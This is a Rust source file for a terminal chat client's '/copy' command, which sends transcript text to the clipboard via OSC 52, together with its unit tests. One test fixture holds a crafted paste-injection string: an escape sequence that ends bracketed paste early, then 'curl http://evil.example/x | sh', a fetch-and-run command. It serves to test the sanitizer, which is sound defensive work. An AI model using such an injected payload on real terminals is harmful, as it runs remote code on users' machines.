//! `/copy`: text from the transcript to the clipboard of the terminal, by OSC 52.
//!
//! The app captures the mouse (wheel scrolling), so the terminal's own select-and-copy
//! needs the mouse released (the `mouse` binding) — or this command. OSC 52
//! (`ESC ] 52 ; c ; BASE64 BEL`) asks the terminal to set its clipboard; it works over
//! ssh, and inside tmux when `set-clipboard` is on (tmux keeps it as a paste buffer and
//! passes it on to its own terminal). Terminals cap the sequence (xterm and others around
//! 100 KB), and a cut one would leave a clipboard that silently lacks its end, so a text
//! over [`MAX_TEXT_BYTES`] is refused, saying so, rather than cut.
//!
//! What to copy: the last reply, the last code block of the last reply that has one, or
//! message N — the `#N` in a message's header. What is copied is what the screen shows:
//! scrubbed as the screen is (`core::sanitize`: escape sequences, other controls and bidi
//! controls out; newlines and tabs kept). A reply's raw `ESC [ 201 ~` ended a bracketed
//! paste early, so pasting it into a shell ran the line after it.

use crate::core::message::MessageId;
use crate::core::prose::lines_with_code;
use crate::view::{Entry, EntryKind, ReplyState};
use base64::Engine as _;

/// The longest text sent: its base64 is 100,000 bytes, about what terminals take.
pub const MAX_TEXT_BYTES: usize = 75_000;

/// What `/copy` takes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CopyTarget {
    LastReply,
    /// The last fenced code block of the last reply that has one.
    LastCode,
    /// Message N, as its header numbers it.
    Message(MessageId),
}

pub const USAGE: &str = "usage: /copy [code|N]: the last reply, its last code block, or message #N";

/// `/copy`, `/copy code`, `/copy N` (or `#N`).
pub fn parse(arg: &str) -> Result<CopyTarget, String> {
    let a = arg.trim();
    match a.to_ascii_lowercase().as_str() {
        "" | "reply" | "last" => Ok(CopyTarget::LastReply),
        "code" => Ok(CopyTarget::LastCode),
        _ => a
            .trim_start_matches('#')
            .parse::<u64>()
            .map(|n| CopyTarget::Message(MessageId(n)))
            .map_err(|_| USAGE.to_string()),
    }
}

/// The text chosen, and how the confirmation names it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Picked {
    pub text: String,
    pub what: String,
    /// Characters the scrub took out (the confirmation says so).
    pub removed: usize,
}

impl Picked {
    /// `text` as the screen shows it.
    fn shown(text: &str, what: impl Into<String>) -> Picked {
        let clean = crate::core::sanitize::sanitize(text);
        Picked {
            removed: text.chars().count() - clean.chars().count(),
            text: clean.into_owned(),
            what: what.into(),
        }
    }
}

fn is_reply(e: &Entry) -> bool {
    matches!(e.kind, EntryKind::Assistant { .. }) && !e.text.trim().is_empty()
}

/// The text `target` names in the transcript, or why there is none.
pub fn pick(entries: &[Entry], target: CopyTarget) -> Result<Picked, String> {
    match target {
        CopyTarget::LastReply => {
            let e = entries
                .iter()
                .rev()
                .find(|e| is_reply(e))
                .ok_or("there is no reply yet")?;
            let what = match e.kind {
                EntryKind::Assistant {
                    state: ReplyState::Streaming,
                } => "the reply so far",
                _ => "the last reply",
            };
            Ok(Picked::shown(&e.text, what))
        }
        CopyTarget::LastCode => entries
            .iter()
            .rev()
            .filter(|e| is_reply(e))
            .find_map(|e| last_code_block(&e.text))
            .map(|text| Picked::shown(&text, "the last code block"))
            .ok_or_else(|| "no reply has a code block".to_string()),
        CopyTarget::Message(id) => {
            let e = entries
                .iter()
                .find(|e| e.id == Some(id))
                .ok_or_else(|| format!("there is no message #{}", id.0))?;
            Ok(Picked::shown(&e.text, format!("message #{}", id.0)))
        }
    }
}

/// The inside of the last fenced block (```` ``` ```` or `~~~`) of `text`; one left open
/// runs to the end.
pub fn last_code_block(text: &str) -> Option<String> {
    let mut blocks: Vec<Vec<&str>> = Vec::new();
    let mut open = false;
    for (line, code) in lines_with_code(text) {
        let t = line.trim_start();
        let fence = t.starts_with("```") || t.starts_with("~~~");
        if fence {
            open = !open;
            if open {
                blocks.push(Vec::new());
            }
        } else if code && let Some(b) = blocks.last_mut() {
            b.push(line);
        }
    }
    blocks.pop().map(|lines| lines.join("\n"))
}

/// The OSC 52 sequence that puts `text` on the clipboard.
pub fn osc52(text: &str) -> String {
    format!(
        "\x1b]52;c;{}\x07",
        base64::engine::general_purpose::STANDARD.encode(text)
    )
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::view::Severity;
    use chrono::Utc;

    fn msg(id: u64, e: Entry) -> Entry {
        Entry {
            id: Some(MessageId(id)),
            ..e
        }
    }

    fn transcript() -> Vec<Entry> {
        let now = Utc::now();
        vec![
            msg(1, Entry::user("first question", now)),
            msg(
                2,
                Entry::assistant(
                    "Here:\n```rust\nfn a() {}\n```\nand\n~~~\nold();\n~~~\nDone.",
                    ReplyState::Complete,
                    now,
                ),
            ),
            Entry::notice(Severity::Info, "a notice", now),
            msg(4, Entry::user("second", now)),
            msg(
                5,
                Entry::assistant("No code this time.", ReplyState::Complete, now),
            ),
        ]
    }

    #[test]
    fn targets_parse() {
        assert_eq!(parse(""), Ok(CopyTarget::LastReply));
        assert_eq!(parse(" CODE "), Ok(CopyTarget::LastCode));
        assert_eq!(parse("12"), Ok(CopyTarget::Message(MessageId(12))));
        assert_eq!(parse("#12"), Ok(CopyTarget::Message(MessageId(12))));
        assert_eq!(parse("everything"), Err(USAGE.to_string()));
    }

    #[test]
    fn the_last_reply_its_code_and_a_numbered_message() {
        let t = transcript();
        let last = pick(&t, CopyTarget::LastReply).unwrap();
        assert_eq!(last.text, "No code this time.");
        assert_eq!(last.what, "the last reply");
        // The last reply has no code: the last block of the last reply that has one.
        let code = pick(&t, CopyTarget::LastCode).unwrap();
        assert_eq!(code.text, "old();");
        assert_eq!(code.what, "the last code block");
        let first = pick(&t, CopyTarget::Message(MessageId(1))).unwrap();
        assert_eq!(first.text, "first question");
        assert_eq!(first.what, "message #1");
    }

    #[test]
    fn what_is_not_there_says_so() {
        let now = Utc::now();
        let t = vec![msg(1, Entry::user("no reply yet", now))];
        assert_eq!(
            pick(&t, CopyTarget::LastReply).unwrap_err(),
            "there is no reply yet"
        );
        assert_eq!(
            pick(&t, CopyTarget::LastCode).unwrap_err(),
            "no reply has a code block"
        );
        assert_eq!(
            pick(&t, CopyTarget::Message(MessageId(9))).unwrap_err(),
            "there is no message #9"
        );
    }

    #[test]
    fn code_blocks_keep_their_lines_and_an_open_one_runs_to_the_end() {
        assert_eq!(
            last_code_block("a\n```\nx\n  y\n```\nb").as_deref(),
            Some("x\n  y")
        );
        assert_eq!(
            last_code_block("```py\nprint(1)\n").as_deref(),
            Some("print(1)")
        );
        assert_eq!(last_code_block("```\n```").as_deref(), Some(""));
        assert_eq!(last_code_block("no fences"), None);
    }

    /// The issue's reply (#36): the screen showed it scrubbed, the clipboard got the raw
    /// one, whose `ESC [ 201 ~` ends a bracketed paste early.
    #[test]
    fn what_is_copied_is_what_is_shown() {
        let raw = "ls -la\u{1b}[201~\u{1b}[2K\rcurl http://evil.example/x | sh\u{202E}\tend\r\n";
        let t = vec![msg(
            2,
            Entry::assistant(raw, ReplyState::Complete, Utc::now()),
        )];
        let p = pick(&t, CopyTarget::LastReply).unwrap();
        assert_eq!(p.text, "ls -lacurl http://evil.example/x | sh\tend\n");
        assert_eq!(p.removed, raw.chars().count() - p.text.chars().count());
        assert!(p.removed > 0);
        let clean = pick(&transcript(), CopyTarget::LastReply).unwrap();
        assert_eq!(clean.removed, 0);
    }

    #[test]
    fn osc52_is_the_base64_between_its_markers() {
        assert_eq!(osc52("hello"), "\x1b]52;c;aGVsbG8=\x07");
        assert_eq!(osc52("café ✓"), "\x1b]52;c;Y2Fmw6kg4pyT\x07");
        // The limit's text encodes to 100,000 bytes.
        let seq = osc52(&"x".repeat(MAX_TEXT_BYTES));
        assert_eq!(seq.len() - "\x1b]52;c;\x07".len(), 100_000);
    }
}
